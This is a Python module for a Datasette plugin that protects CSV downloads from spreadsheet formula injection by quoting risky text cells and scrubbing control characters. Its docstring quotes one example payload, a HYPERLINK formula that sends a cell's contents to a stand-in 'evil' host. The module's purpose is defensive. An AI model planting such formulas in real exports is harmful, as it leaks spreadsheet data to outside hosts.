"""Datasette plugin of the project: CSV downloads that are safe to open in a spreadsheet.

A hostile site chooses its titles, bylines, sections and tags; one that
starts with ``=`` (``=HYPERLINK("http://evil/?"&A1, "...")``) is a formula
to Excel, LibreOffice and Google Sheets. ``python -m crawler.export`` makes
its cells safe with :mod:`crawler.csvsafe`; this plugin applies the same
rule to every CSV Datasette serves: table and query pages, canned queries,
``?_dl=1`` downloads and the all-rows stream (``?_stream=on``). A text cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or
their full-width forms, or any of these after leading spaces) gets a leading
``'``; numbers are written as they are, so a negative count stays ``-5``
(OWASP's advice: quote text cells only). Control characters and terminal
escapes are scrubbed from text cells too. The JSON stays exactly as stored.

How: Datasette writes every CSV in one place, ``DataView.as_csv`` in
``datasette.views.base``, through the standard ``csv`` module's writer, and
offers no hook for it (``register_output_renderer`` adds formats, an
``asgi_wrapper`` would have to re-parse a streamed CSV). So the plugin gives
that module a ``csv`` whose ``writer()`` passes each row through
:func:`crawler.csvsafe.spreadsheet_row` before the real writer sees it. If a
Datasette release moves that code, :func:`install` raises at start-up rather
than serve unsafe CSV silently (``tests/test_csv_safety.py`` checks the
downloads themselves).
"""

from __future__ import annotations

import csv
import types
from collections.abc import Iterable
from typing import Any

from datasette import hookimpl

from crawler.csvsafe import spreadsheet_row


class SpreadsheetSafeWriter:
    """A ``csv.writer`` whose rows are made spreadsheet-safe first."""

    def __init__(self, writer: Any) -> None:
        self.writer = writer

    def writerow(self, row: Iterable[object]) -> Any:
        return self.writer.writerow(spreadsheet_row(row))  # Datasette awaits what its file's write returns

    def writerows(self, rows: Iterable[Iterable[object]]) -> Any:
        return self.writer.writerows(spreadsheet_row(row) for row in rows)

    def __getattr__(self, name: str) -> Any:
        return getattr(self.writer, name)  # dialect


def safe_writer(*args: Any, **kwargs: Any) -> SpreadsheetSafeWriter:
    return SpreadsheetSafeWriter(csv.writer(*args, **kwargs))


SAFE_CSV = types.SimpleNamespace(**{name: getattr(csv, name) for name in dir(csv) if not name.startswith("__")})
SAFE_CSV.writer = safe_writer
SAFE_CSV.spreadsheet_safe = True  # Datasette loads the plugins folder once per instance: the mark, not the object


def install() -> None:
    """Give Datasette's CSV view the safe writer; raise if it no longer writes CSV where expected."""
    from datasette.views import base

    current = getattr(base, "csv", None)
    if getattr(current, "spreadsheet_safe", False):
        return
    if current is not csv or "csv.writer(" not in _source(base.DataView.as_csv):
        raise RuntimeError("csv_safety: this Datasette no longer writes CSV in views.base; its CSV would be unsafe")
    base.csv = SAFE_CSV


def _source(function: Any) -> str:
    import inspect

    return inspect.getsource(function)


install()  # when Datasette loads the plugins folder


@hookimpl
def startup(datasette: Any) -> None:
    install()
